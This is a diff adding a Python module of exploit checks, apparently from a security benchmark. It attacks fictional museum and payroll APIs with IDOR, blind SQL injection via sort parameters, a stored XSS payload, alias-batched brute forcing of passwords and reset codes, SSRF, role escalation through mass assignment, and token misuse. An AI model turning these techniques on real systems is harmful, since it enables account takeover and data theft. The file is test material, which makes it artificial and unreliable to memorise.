@@ -1,0 +1,230 @@
+"""The exploits for the sixth set: one for each weakness, by service and name."""
+
+import json
+import re
+
+import common
+from third_proofs import called, proof, sign_in, until
+
+PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}
+PAGE = "https://elsewhere.example"
+
+# museum -----------------------------------------------------------------------------------------------------------------------------------
+
+LOGIN = "mutation($u: String!, $p: String!) {login(username: $u, password: $p) {token}}"
+
+
+@sign_in("museum")
+def _(client, name):
+    return {"Authorization": "Bearer " + client.ask(LOGIN, u=name, p=PASSWORD[name]).json()["data"]["login"]["token"]}
+
+
+@proof("museum", "node-any")
+def _(client):
+    ann, query = client.as_("ann"), "query($id: ID!) {node(id: $id) {id ... on Loan {contact}}}"
+    identifier = client.ask("{loans {id}}", ann).json()["data"]["loans"][0]["id"]
+    assert "ann at" in client.ask(query, ann, id=identifier).text
+    assert "no such loan" in client.ask("query($id: ID!) {loan(id: $id) {id}}", client.as_("ben"), id=identifier).text
+    return "ann at" in client.ask(query, client.as_("ben"), id=identifier).text
+
+
+@proof("museum", "acquisition-open")
+def _(client):
+    query = "query($id: ID!) {exhibit(id: $id) {title acquisition {iban}}}"
+    assert "DE89" in client.ask(query, client.as_("ann"), id="RXhoaWJpdDox").text
+    answer = client.ask(query, client.as_("ben"), id="RXhoaWJpdDox").text
+    assert "Kettle" in answer
+    return "DE89" in answer
+
+
+@proof("museum", "note-delete")
+def _(client):
+    assert client.ask("mutation($id: ID!) {deleteNote(id: $id)}", client.as_("ann"), id="Tm90ZToy").json()["data"]["deleteNote"] in (True, None)
+    client.ask("mutation($id: ID!) {deleteNote(id: $id)}", client.as_("ben"), id="Tm90ZTox")
+    return "fair by ann" not in client.ask('{exhibit(id: "RXhoaWJpdDox") {title notes {text}}}', client.as_("ann")).text
+
+
+@proof("museum", "staff-open")
+def _(client):
+    assert "only for" in client.ask("{people {username}}", client.as_("ann")).text
+    return "olga" in client.ask("{staff {username}}", client.as_("ann")).text
+
+
+@proof("museum", "login-aliases")
+def _(client):
+    tries = " ".join(f'a{number}: login(username: "carol", password: "wrong-{number}") {{token}}' for number in range(40))
+    right = f'last: login(username: "carol", password: "{PASSWORD["carol"]}") {{token}}'
+    answer = client.ask(f"mutation {{{tries} {right}}}").json()
+    return bool(answer["data"]["last"])
+
+
+@proof("museum", "sort-sql")
+def _(client):
+    query = "query($order: Order) {exhibits(order: $order, first: 40) {era}}"
+    caller = client.as_("ann")
+    assert client.ask(query, caller, order={"by": "era"}).json()["data"]
+    orders = [client.ask(query, caller, order={"by": f"CASE WHEN (SELECT keeper FROM exhibits WHERE number = 2) = '{name}' THEN era ELSE -era END"}).json().get("data") for name in ("ann", "ben")]
+    return None not in orders and orders[0]["exhibits"][0]["era"] < orders[1]["exhibits"][0]["era"]
+
+
+@proof("museum", "first-open")
+def _(client):
+    query = "query($first: Int) {exhibits(first: $first) {id}}"
+    caller = client.as_("ann")
+    assert len(client.ask(query, caller, first=100).json()["data"]["exhibits"]) == 100
+    return len(((client.ask(query, caller, first=1_000_000).json() or {}).get("data") or {"exhibits": []})["exhibits"]) > 100
+
+
+@proof("museum", "catalogue-fetch")
+def _(client):
+    query = "mutation($url: String!) {fetchCatalogue(url: $url) {excerpt}}"
+    with called() as (url, requests, arrived):
+        assert "no catalogue" in client.ask(query, client.as_("ann"), url=url).text
+        answer = client.ask(query, client.as_("ann"), url=f"{url}?of=museum.example").text
+        return "inner" in answer and arrived.wait(1) and len(requests) == 1
+
+
+@proof("museum", "note-markup")
+def _(client):
+    text = "<img src=x onerror=alert(1)>"
+    assert client.ask('mutation($text: String!) {addNote(exhibitId: "RXhoaWJpdDox", text: $text) {text}}', client.as_("ann"), text=text).json()["data"]["addNote"]["text"] == text
+    page = client.get("/labels/1")
+    assert "fair by ann" in page.text
+    return text in page.text and "unsafe-inline" in page.headers["content-security-policy"]
+
+
+@proof("museum", "profile-role")
+def _(client):
+    entry = {"username": "dora.fern", "password": "willow-Meadow-26", "email": "dora@west.example", "profile": {"displayName": "Dora", "role": "admin"}}
+    assert client.ask("mutation($input: Registration!) {register(input: $input) {displayName}}", input=entry).json()["data"]["register"]["displayName"] == "Dora"
+    token = client.ask(LOGIN, u="dora.fern", p="willow-Meadow-26").json()["data"]["login"]["token"]
+    return "olga" in client.ask("{people {username}}", {"Authorization": f"Bearer {token}"}).text
+
+
+@proof("museum", "reset-codes")
+def _(client):
+    assert client.ask('mutation {requestReset(username: "carol")}').json()["data"]["requestReset"]
+    for first in range(0, 10_000, 250):
+        tries = " ".join(f'a{code:04}: resetPassword(username: "carol", code: "{code:04}", password: "aspen-Teapot-37")' for code in range(first, first + 250))
+        if True in client.ask(f"mutation {{{tries}}}").json()["data"].values():
+            return "token" in client.ask(LOGIN, u="carol", p="aspen-Teapot-37").text
+    return False
+
+
+@proof("museum", "errors-debug")
+def _(client):
+    answer = client.ask("{me {id}}").json()["errors"][0]
+    assert answer["message"] == "sign in first"
+    return "service.py" in json.dumps(answer.get("extensions", {}))
+
+
+# payroll ----------------------------------------------------------------------------------------------------------------------------------
+
+
+def payroll_tokens(client, name):
+    return client.post("/auth/token", json={"username": name, "password": PASSWORD[name]}).json()
+
+
+@sign_in("payroll")
+def _(client, name):
+    return {"Authorization": "Bearer " + payroll_tokens(client, name)["accessToken"]}
+
+
+@proof("payroll", "company-header")
+def _(client):
+    caller = client.as_("ann")
+    assert "carol" in client.get("/people", headers=caller | {"X-Company": "north"}).text
+    return "ben" in client.get("/people", headers=caller | {"X-Company": "south"}).text
+
+
+@proof("payroll", "timesheet-copy")
+def _(client):
+    identifier = client.listed("/timesheets", "ann")
+    assert client.get(f"/timesheets/{identifier}", headers=client.as_("ben")).status_code == 404
+    assert "by ann" in client.post("/timesheets/copies", json={"from": client.get("/timesheets", headers=client.as_("ann")).json()[1]["id"], "week": 203114}, headers=client.as_("ann")).text
+    return "of ann" in client.post("/timesheets/copies", json={"from": identifier, "week": 203114}, headers=client.as_("ben")).text
+
+
+@proof("payroll", "payslip-read")
+def _(client):
+    identifier = client.listed("/payslips", "ann")
+    assert "taxNumber" in client.get(f"/payslips/{identifier}", headers=client.as_("olga")).text
+    assert "taxNumber" not in client.get(f"/payslips/{identifier}", headers=client.as_("ben")).text
+    return "taxNumber" in client.get(f"/payslips/{identifier}", headers=client.as_("carol")).text
+
+
+@proof("payroll", "approve-open")
+def _(client):
+    ann = client.as_("ann")
+    identifier = client.listed("/timesheets", "ann")
+    assert client.post(f"/timesheets/{identifier}/submit", headers=ann).json()["state"] == "submitted"
+    return client.post(f"/timesheets/{identifier}/approve", headers=ann).json().get("state") == "approved"
+
+
+@proof("payroll", "profile-merge")
+def _(client):
+    ann = client.as_("ann")
+    assert client.put("/company/settings", json={"weekStart": "monday", "travelRate": 2}, headers=ann).status_code == 403
+    answer = client.patch("/me", json={"contact": {"phone": "+49 1"}, "employment": {"role": "admin"}}, headers=ann).json()
+    assert answer["contact"] == {"phone": "+49 1", "street": "Quay 4"}
+    return client.put("/company/settings", json={"weekStart": "monday", "travelRate": 2}, headers=ann).status_code == 200
+
+
+@proof("payroll", "refresh-as-access")
+def _(client):
+    tokens = payroll_tokens(client, "ann")
+    answers = [client.get("/me", headers={"Authorization": f"Bearer {tokens[name]}"}).status_code for name in ("accessToken", "refreshToken")]
+    assert answers[0] == 200
+    return answers[1] == 200
+
+
+@proof("payroll", "refresh-after-logout")
+def _(client):
+    tokens = payroll_tokens(client, "ann")
+    tokens = client.post("/auth/refresh", json=tokens).json()
+    caller = {"Authorization": "Bearer " + tokens["accessToken"]}
+    assert client.post("/auth/logout", headers=caller).status_code == 204
+    assert client.get("/me", headers=caller).status_code == 401
+    renewed = client.post("/auth/refresh", json={"refreshToken": tokens["refreshToken"]})
+    return renewed.status_code == 200 and client.get("/me", headers={"Authorization": "Bearer " + renewed.json()["accessToken"]}).status_code == 200
+
+
+@proof("payroll", "report-order")
+def _(client):
+    caller = client.as_("ann")
+    labels = [row["label"] for row in client.post("/reports/hours", json={"order": {"by": "hours", "direction": "desc"}}, headers=caller).json()["rows"]]
+    assert labels[0] == "P2"
+    condition = "* 0 + 1 LIMIT (SELECT CASE WHEN amount {} 900 THEN 1 ELSE 2 END FROM bonuses WHERE person = 'olga')"
+    counts = [len(client.post("/reports/hours", json={"order": {"by": "hours", "direction": condition.format(sign)}}, headers=caller).json().get("rows", ())) for sign in "><"]
+    return counts == [1, 2]
+
+
+@proof("payroll", "expense-negative")
+def _(client):
+    caller = client.as_("ann")
+    assert client.post("/expenses", json={"purpose": "x", "lines": [{"label": "taxi", "amount": 20}]}, headers=caller).json()["total"] == 20
+    client.post("/expenses", json={"purpose": "x", "lines": [{"label": "taxi", "amount": 10}, {"label": "back", "amount": -4000}]}, headers=caller)
+    return client.get("/expenses/budget", headers=caller).json()["left"] > 20_000
+
+
+@proof("payroll", "receipt-fetch")
+def _(client):
+    caller = client.as_("ann")
+    entry = {"purpose": "x", "lines": [{"label": "taxi", "amount": 20}], "receipt": {"link": "https://receipts.payroll.example/a.pdf"}}
+    assert client.post("/expenses", json=entry, headers=caller).status_code == 201
+    with called() as (url, _, arrived):
+        answer = client.post("/expenses", json=entry | {"receipt": {"link": url}}, headers=caller)
+        return answer.status_code == 201 and arrived.wait(5) and until(lambda: "inner" in client.get("/expenses/" + answer.json()["id"], headers=caller).text)
+
+
+@proof("payroll", "people-export")
+def _(client):
+    caller = client.as_("ann")
+    link = client.get("/people", headers=caller).headers.get("link", "</people.csv>")
+    return "carol@east.example,5,DE" in client.get(re.search("<(.*)>", link)[1], headers=caller).text
+
+
+@proof("payroll", "form-stack")
+def _(client):
+    answer = client.post("/expenses", data={"purpose": "x", "lines": "taxi"}, headers=client.as_("ann"))
+    return "server.js" in answer.json().get("detail", "")
